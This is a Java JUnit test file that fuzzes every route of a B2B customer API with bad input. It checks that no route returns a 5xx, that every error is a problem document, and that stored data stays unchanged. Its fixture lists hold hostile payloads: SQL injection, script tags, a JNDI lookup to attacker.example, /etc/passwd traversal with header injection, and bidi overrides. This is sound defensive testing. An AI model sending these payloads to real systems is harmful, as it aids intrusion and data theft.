package org.b2b.customers.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.b2b.customers.application.port.in.Actor;
import org.b2b.customers.application.port.in.PageRequest;
import org.b2b.customers.application.port.in.address.AddAddressCommand;
import org.b2b.customers.application.port.in.address.ListAddressesQuery;
import org.b2b.customers.application.port.in.company.CompanyView;
import org.b2b.customers.application.port.in.company.ListCompaniesQuery;
import org.b2b.customers.application.port.in.group.CustomerGroupView;
import org.b2b.customers.application.port.in.history.CompanyHistoryQuery;
import org.b2b.customers.application.port.in.invitation.InviteMembersCommand;
import org.b2b.customers.application.port.in.invitation.Invitee;
import org.b2b.customers.application.port.in.invitation.ListInvitationsQuery;
import org.b2b.customers.application.port.in.member.ListMembersQuery;
import org.b2b.customers.application.port.in.member.MemberView;
import org.b2b.customers.application.port.in.order.ListOrdersQuery;
import org.b2b.customers.application.port.in.user.ListUsersQuery;
import org.b2b.customers.application.CustomerManagement;
import org.b2b.customers.testkit.TestData;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;

/**
 * Every route of the API, sent what clients get wrong and what attackers try: malformed and wrongly typed JSON,
 * huge and deeply nested bodies, ids and cursors that are none, injection strings, control and right-to-left
 * characters, and no token at all. None may answer 5xx; every 4xx is a problem document; nothing stored changes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputTest {

    /** Text that is valid JSON but hostile: SQL and script injection, NUL and other controls, bidi overrides. */
    private static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE companies; --\u0000",
            "\" OR \"1\"=\"1\u0007",
            "<script>alert(1)</script>\u202Egnp.exe",
            "${jndi:ldap://attacker.example/a}\u0008",
            "\u202B\u200F\u2066ﻣﺮﺣﺒﺎ\u0085\u001B[31m",
            "../../../../etc/passwd\r\nX-Injected: 1");

    private static final List<String> NOT_IDS = List.of(
            "not-a-uuid", "00000000-0000-0000-0000-00000000000G", "%27%20OR%20%271%27%3D%271", "%00",
            "..%2F..%2Fetc%2Fpasswd", "12345678123456781234567812345678", "%E2%80%AE");

    private static final List<String> MALFORMED_JSON = List.of(
            "{\"name\": \"unterminated", "not json at all", "{\"a\":1} trailing", "{'single':'quotes'}",
            "{\"dup\":1,\"dup\":2}", "null", "[]", "\"a string\"", "42", "\u0000\u0001\u0002");

    private final RunningApi api = new RunningApi();
    private final CustomerManagement useCases = api.system().useCases();
    private final Actor admin = api.system().administrator();
    private final String token = api.adminToken();
    private final CompanyView company = api.data().company("Acme Industrial", api.data().salesRepresentative());
    private final MemberView member = api.data().member(company, "company_buyer");
    private final CustomerGroupView group = api.data().customerGroup();
    private final String invitationId;
    private final String addressId;
    private final String orderId;
    private final String registrationToken;

    BadInputTest() {
        var invitation = useCases.inviteMembers().invite(admin,
                InviteMembersCommand.of(company.id(), new Invitee("invited@buyer.example", "company_buyer")));
        invitationId = invitation.results().get(0).invitationId().orElseThrow().toString();
        registrationToken = TestData.tokenOf(useCases.registrationLink().link(admin, company.id(),
                invitation.results().get(0).invitationId().orElseThrow()).url().toString());
        addressId = useCases.addAddress().add(admin, new AddAddressCommand(company.id(), "SHIPPING",
                api.data().shippingAddress("Hamburg"), false)).id().toString();
        orderId = api.data().order(company.id(), "SO-1", "9.99", "EUR").id().toString();
    }

    @AfterAll
    void stop() {
        api.close();
    }

    @TestFactory
    Stream<DynamicTest> no_route_answers_5xx_or_a_bare_4xx_or_changes_anything_for_bad_input() {
        return api.server().registeredEndpoints().stream()
                .filter(endpoint -> endpoint.contains(" /api/v1/"))
                .map(endpoint -> DynamicTest.dynamicTest(endpoint, () -> {
                    String method = endpoint.substring(0, endpoint.indexOf(' '));
                    String template = endpoint.substring(endpoint.indexOf(' ') + 1);
                    String stored = snapshot();
                    SoftAssertions softly = new SoftAssertions();
                    for (Attempt attempt : attempts(method, template)) {
                        Reply reply = api.send(method, attempt.path(), attempt.token(), attempt.body(), attempt.headers());
                        check(softly, attempt, reply);
                    }
                    softly.assertThat(snapshot()).as("stored data after bad input to " + endpoint).isEqualTo(stored);
                    softly.assertAll();
                }));
    }

    /** One request to send; {@code refused}: it must answer 4xx (otherwise it may also be served, unchanged). */
    private record Attempt(String label, boolean refused, String path, String token, String body, String... headers) {}

    private List<Attempt> attempts(String method, String template) {
        List<Attempt> attempts = new ArrayList<>();
        String path = fill(template, Map.of());
        boolean read = method.equals("GET");
        boolean takesJson = (method.equals("POST") || method.equals("PUT") || method.equals("PATCH"))
                && !template.endsWith("/resend") && !template.endsWith("/revoke");
        String body = takesJson ? "{}" : null;
        if (!template.startsWith("/api/v1/registrations") && !(template.equals("/api/v1/auth/token") && method.equals("POST"))) {
            attempts.add(new Attempt("no token", true, path, null, body));
            attempts.add(new Attempt("a token that is none", true, path, "' OR 1=1 --", body));
        }
        for (String param : paramsOf(template)) {
            for (String notId : NOT_IDS) {
                attempts.add(new Attempt(param + "=" + notId, true, fill(template, Map.of(param, notId)), token,
                        takesJson ? hostileBody() : null));
            }
        }
        if (read) {
            for (String text : HOSTILE_TEXT) {
                String query = "?q=" + encode(text) + "&status=" + encode(text) + "&type=" + encode(text) + "&role="
                        + encode(text) + "&userId=" + encode(text) + "&policy=" + encode(text) + "&companyId=" + encode(text);
                attempts.add(new Attempt("hostile query", false, path + query, token, null));
            }
            for (String page : List.of("?limit=-1", "?limit=0", "?limit=1000000000000", "?limit=%00", "?cursor=%00",
                    "?cursor=" + "A".repeat(5000), "?cursor=%E2%80%AE%27--", "?limit=1&limit=2")) {
                attempts.add(new Attempt("paging " + page, false, path + page, token, null));
            }
        }
        if (takesJson) {
            for (String json : MALFORMED_JSON) {
                attempts.add(new Attempt("malformed " + json, true, path, token, json));
            }
            attempts.add(new Attempt("wrong types", true, path, token, wronglyTypedBody()));
            attempts.add(new Attempt("hostile text", false, path, token, hostileBody()));
            attempts.add(new Attempt("deep nesting", true, path, token,
                    "{\"name\":" + "[".repeat(5000) + "]".repeat(5000) + "}"));
            attempts.add(new Attempt("huge body", true, path, token,
                    "{\"name\":\"" + "x".repeat((int) WebServer.MAX_REQUEST_BYTES + 10) + "\"}"));
            attempts.add(new Attempt("not JSON content", true, path, token, "name=x&taxId=y", "Content-Type",
                    "application/x-www-form-urlencoded"));
        }
        if (method.equals("PUT") || method.equals("PATCH")) {
            attempts.add(new Attempt("stale If-Match", true, path, token, "{}", "If-Match", "\"999999\""));
            attempts.add(new Attempt("bad If-Match", true, path, token, "{}", "If-Match", "' OR 1=1"));
        }
        return attempts;
    }

    private void check(SoftAssertions softly, Attempt attempt, Reply reply) {
        String label = attempt.label() + " → " + reply.status() + " " + abbreviated(reply.body());
        softly.assertThat(reply.status()).as(label).isLessThan(500);
        if (attempt.refused()) {
            softly.assertThat(reply.status()).as(label).isBetween(400, 499);
        }
        if (reply.status() >= 400) {
            softly.assertThat(reply.header("Content-Type")).as(label).startsWith(Problems.CONTENT_TYPE);
            if (reply.header("Content-Type") != null && reply.header("Content-Type").startsWith(Problems.CONTENT_TYPE)) {
                JsonNode problem = reply.json();
                softly.assertThat(problem.get("status").asInt()).as(label).isEqualTo(reply.status());
                softly.assertThat(problem.get("title").asText()).as(label).isNotBlank();
                softly.assertThat(reply.body()).as(label).doesNotContain("Exception").doesNotContain("\tat ");
            }
        }
    }

    private String fill(String template, Map<String, String> overrides) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("id", template.startsWith("/api/v1/customer-groups") ? group.id().toString() : company.id().toString());
        values.put("memberId", member.id().toString());
        values.put("invitationId", invitationId);
        values.put("addressId", addressId);
        values.put("orderId", orderId);
        values.put("identifier", "company_buyer");
        values.put("token", registrationToken);
        values.putAll(overrides);
        String path = template;
        for (Map.Entry<String, String> value : values.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", value.getValue());
        }
        return path;
    }

    private static List<String> paramsOf(String template) {
        List<String> params = new ArrayList<>();
        java.util.regex.Matcher matcher = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(template);
        while (matcher.find()) {
            params.add(matcher.group(1));
        }
        return params;
    }

    /** Every field any route reads, each with a JSON type it does not take. */
    private static String wronglyTypedBody() {
        return """
                {"name": 5, "taxId": true, "customerGroupId": 1.5, "salesRepresentativeId": [], "website": {},
                 "billingAddress": "Main Street", "status": 1, "memberId": false, "userId": {"id": 1}, "role": [],
                 "firstName": 1, "lastName": true, "phone": 49, "invitations": "a@b.c", "token": 7,
                 "password": ["secret"], "type": 1, "street": 2, "postalCode": 10115, "city": [], "region": {},
                 "country": 49, "email": true, "isDefault": "yes", "number": 1001, "placedAt": 1700000000,
                 "placedByMemberId": 3, "currency": 978, "total": 9.99, "identifier": 1, "globalPriceRate": [],
                 "roles": "administrator", "audience": true, "policies": {"module": "company"}, "confirmed": "yes"}
                """;
    }

    /** Every field any route reads, as hostile text of the right JSON type. */
    private String hostileBody() {
        Map<String, Object> body = new LinkedHashMap<>();
        int i = 0;
        for (String field : List.of("name", "taxId", "customerGroupId", "salesRepresentativeId", "website", "status",
                "memberId", "userId", "role", "firstName", "lastName", "phone", "token", "password", "type", "street",
                "postalCode", "city", "region", "country", "email", "number", "placedAt", "placedByMemberId",
                "currency", "total", "identifier", "globalPriceRate", "audience")) {
            body.put(field, HOSTILE_TEXT.get(i++ % HOSTILE_TEXT.size()));
        }
        body.put("billingAddress", Map.of("name", HOSTILE_TEXT.get(0), "country", HOSTILE_TEXT.get(2)));
        body.put("invitations", List.of(Map.of("email", HOSTILE_TEXT.get(1), "role", HOSTILE_TEXT.get(2))));
        body.put("roles", List.of(HOSTILE_TEXT.get(3)));
        body.put("policies", List.of(Map.of("module", HOSTILE_TEXT.get(4), "function", HOSTILE_TEXT.get(5))));
        return ApiClient.body(body);
    }

    /** What is stored, as the administrator reads it through the use cases. */
    private String snapshot() {
        PageRequest all = PageRequest.first(200);
        StringBuilder state = new StringBuilder();
        for (CompanyView each : useCases.listCompanies().list(admin, ListCompaniesQuery.all().withPage(all)).items()) {
            state.append(each).append('\n')
                    .append(useCases.listMembers().list(admin, ListMembersQuery.of(each.id()).withPage(all)).items())
                    .append(useCases.listInvitations().list(admin, ListInvitationsQuery.all(each.id()).withPage(all)).items())
                    .append(useCases.listAddresses().list(admin, ListAddressesQuery.all(each.id())))
                    .append(useCases.listOrders().list(admin, new ListOrdersQuery(each.id(), all)).items())
                    .append(useCases.companyHistory().history(admin, new CompanyHistoryQuery(each.id(), all)).items());
        }
        return state.append(useCases.listUsers().list(admin, new ListUsersQuery(null, null, null, false, all)).items())
                .append(useCases.listRoles().list(admin))
                .append(useCases.listCustomerGroups().list(admin))
                .append(api.system().outbox().messages())
                .toString();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, UTF_8);
    }

    private static String abbreviated(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }
}
